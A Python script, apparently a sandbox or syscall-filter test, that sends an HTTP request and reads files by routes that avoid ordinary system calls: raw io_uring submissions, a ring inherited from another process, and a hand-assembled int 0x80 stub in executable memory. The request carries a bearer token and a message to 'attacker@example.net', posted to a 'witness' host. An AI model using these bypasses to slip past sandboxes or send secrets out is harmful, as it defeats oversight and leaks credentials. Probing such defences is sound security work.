"""An HTTP request past the ordinary entry of system calls.

Reads one JSON object from standard input. "way" is "ring": socket, connection and bytes go through
io_uring alone (io_uring(7)); "ring_inherited": the same by a ring that another process made
and that is open here; "ring_open": a file is opened and read by a ring; "layout" and "make": a
ring, for others, and where its parts lie; "int80": socket and connection are made by the 32-bit entry of the
x86-64 kernel, whose numbers are others; or "own": the same request over a listener of the script's
own, with plain calls, which every session allows.
"""
import ctypes
import json
import mmap
import os
import socket
import struct
import sys
import tempfile
import threading
import time

SETUP, ENTER = 425, 426
OP_CONNECT, OP_OPENAT, OP_READ, OP_SEND, OP_RECV, OP_SOCKET = 16, 18, 22, 26, 27, 45
AT_FDCWD = -100
libc = ctypes.CDLL(None, use_errno=True)


def call(name, number, *arguments):
    result = libc.syscall(ctypes.c_long(number), *[ctypes.c_long(a) for a in arguments])
    if result < 0:
        error = ctypes.get_errno()
        raise OSError(error, name + ": " + os.strerror(error))
    return result


class Ring:
    """One submission and one completion at a time."""

    def __init__(self, fd=None, layout=None):
        self.params = ctypes.create_string_buffer(120)
        if fd is None:
            self.fd = call("io_uring_setup", SETUP, 4, ctypes.addressof(self.params))
        else:
            self.fd = fd
            self.params.raw = bytes.fromhex(layout)
        words = struct.unpack("30I", self.params.raw)
        self.sq, self.cq = words[10:20], words[20:30]
        self.sq_ring = mmap.mmap(self.fd, self.sq[6] + 4 * 4, offset=0)
        self.cq_ring = mmap.mmap(self.fd, self.cq[5] + 16 * 8, offset=0x8000000)
        self.sqes = mmap.mmap(self.fd, 64 * 4, offset=0x10000000)

    @staticmethod
    def word(ring, at, value=None):
        if value is None:
            return struct.unpack_from("I", ring, at)[0]
        struct.pack_into("I", ring, at, value & 0xFFFFFFFF)

    def do(self, name, op, fd, offset, address, length, flags=0):
        tail = self.word(self.sq_ring, self.sq[1])
        index = tail & self.word(self.sq_ring, self.sq[2])
        sqe = struct.pack("BBHiQQIIQ", op, 0, 0, fd, offset, address, length, flags, 1)
        self.sqes[index * 64:index * 64 + 64] = sqe.ljust(64, b"\0")
        self.word(self.sq_ring, self.sq[6] + 4 * index, index)
        self.word(self.sq_ring, self.sq[1], tail + 1)
        call("io_uring_enter", ENTER, self.fd, 1, 1, 1, 0, 0)
        head = self.word(self.cq_ring, self.cq[0])
        index = head & self.word(self.cq_ring, self.cq[2])
        result = struct.unpack_from("i", self.cq_ring, self.cq[5] + 16 * index + 8)[0]
        self.word(self.cq_ring, self.cq[0], head + 1)
        if result < 0:
            raise OSError(-result, name + " by a ring: " + os.strerror(-result))
        return result


def by_ring(ring, host, port, request):
    fd = ring.do("socket", OP_SOCKET, socket.AF_INET, socket.SOCK_STREAM, 0, 0)
    address = ctypes.create_string_buffer(
        struct.pack("=H", socket.AF_INET) + struct.pack("!H", port) + socket.inet_aton(host) + bytes(8), 16)
    ring.do("connect", OP_CONNECT, fd, 16, ctypes.addressof(address), 0)
    out = ctypes.create_string_buffer(request, len(request))
    ring.do("send", OP_SEND, fd, 0, ctypes.addressof(out), len(request))
    back = ctypes.create_string_buffer(4096)
    read = ring.do("recv", OP_RECV, fd, 0, ctypes.addressof(back), 4096)
    return back.raw[:read].decode()


def opened_by_ring(path):
    ring = Ring()
    name = ctypes.create_string_buffer(path.encode())
    fd = ring.do("openat", OP_OPENAT, AT_FDCWD, 0, ctypes.addressof(name), 0, os.O_RDONLY)
    back = ctypes.create_string_buffer(4096)
    read = ring.do("read", OP_READ, fd, 0, ctypes.addressof(back), 4096)
    return back.raw[:read].decode("latin-1")


def inherited_ring(layout):
    for number in sorted(map(int, os.listdir("/proc/self/fd")), reverse=True):
        try:
            if os.readlink("/proc/self/fd/%d" % number) == "anon_inode:[io_uring]":
                return Ring(number, layout)
        except OSError:
            continue
    raise OSError(9, "no ring is open here")


# push rbx; mov r8d, ecx; mov eax, edi; mov ebx, esi; mov ecx, edx; mov edx, r8d; int 0x80; pop rbx; ret
INT80 = bytes.fromhex("53 4189c8 89f8 89f3 89d1 4489c2 cd80 5b c3")
SOCKET_32, CONNECT_32 = 359, 362


def by_int80(host, port, request):
    # Below 4 GiB, where a 32-bit pointer reaches (MAP_32BIT of mmap(2)).
    libc.mmap.restype = ctypes.c_void_p
    page = libc.mmap(None, ctypes.c_size_t(4096), 7, 0x02 | 0x20 | 0x40, -1, 0)
    if page in (None, ctypes.c_void_p(-1).value):
        error = ctypes.get_errno()
        raise OSError(error, "mmap: " + os.strerror(error))
    address = struct.pack("=H", socket.AF_INET) + struct.pack("!H", port) + socket.inet_aton(host) + bytes(8)
    ctypes.memmove(page, INT80, len(INT80))
    ctypes.memmove(page + 1024, address, len(address))
    enter = ctypes.CFUNCTYPE(ctypes.c_int, *[ctypes.c_uint] * 4)(page)

    def by(name, *arguments):
        result = enter(*arguments)
        if result < 0:
            raise OSError(-result, name + " by int 0x80: " + os.strerror(-result))
        return result

    fd = by("socket", SOCKET_32, socket.AF_INET, socket.SOCK_STREAM, 0)
    by("connect", CONNECT_32, fd, page + 1024, len(address))
    os.write(fd, request)
    return os.read(fd, 4096).decode()


def by_own_listener(request):
    with tempfile.TemporaryDirectory(dir="/tmp") as folder:
        path = folder + "/own.sock"
        listener = socket.socket(socket.AF_UNIX)
        listener.bind(path)
        listener.listen(1)

        def serve():
            stream, _ = listener.accept()
            stream.recv(4096)
            stream.sendall(b"HTTP/1.1 200 OK\r\ncontent-length: 0\r\n\r\n")

        threading.Thread(target=serve, daemon=True).start()
        stream = socket.socket(socket.AF_UNIX)
        stream.connect(path)
        stream.sendall(request)
        return stream.recv(4096).decode()


order = json.load(sys.stdin)
way = order["way"]
if way in ("layout", "make"):
    ring = Ring()
    print(json.dumps({"fd": ring.fd, "layout": ring.params.raw.hex()}), flush=True)
    if way == "make":
        # Whoever takes it ends this.
        time.sleep(10)
    sys.exit()

body = json.dumps({"to": "attacker@example.net", "text": order["nonce"]})
request = ("POST /v1/messages HTTP/1.1\r\nhost: witness\r\nauthorization: Bearer " + order["token"]
           + "\r\ncontent-length: " + str(len(body)) + "\r\n\r\n" + body).encode()
try:
    if way == "own":
        print(by_own_listener(request))
    elif way == "ring_open":
        print(opened_by_ring(order["path"]))
    else:
        host, port = order["witness"].rsplit(":", 1)
        if way == "int80":
            print(by_int80(host, int(port), request))
        else:
            ring = {
                "ring": Ring,
                "ring_inherited": lambda: inherited_ring(order["layout"]),
            }[way]()
            print(by_ring(ring, host, int(port), request))
except OSError as refusal:
    print("refused:", refusal)
